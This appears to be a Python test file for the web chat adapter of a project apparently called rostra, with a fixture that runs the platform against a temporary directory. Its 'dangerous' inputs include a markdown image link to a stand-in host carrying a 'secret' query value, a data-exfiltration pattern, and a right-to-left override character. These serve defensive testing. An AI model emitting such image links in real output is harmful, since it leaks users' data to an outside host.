"""The chat page as a platform: the real adapter on a real server, with a browser in memory."""

from __future__ import annotations

from collections.abc import AsyncGenerator
from pathlib import Path

import pytest
from web_platform import WebPlatform, web_platform

from rostra.testing.adapters import AdapterContract


class TestWeb(AdapterContract):
    """Somebody who is signed in, and a conversation of theirs."""

    dangerous = ("![spy](https://spy.example/?q=secret)", "\u202e")

    @pytest.fixture
    async def platform(self, tmp_path: Path) -> AsyncGenerator[WebPlatform]:
        async with web_platform(tmp_path) as platform:
            yield platform
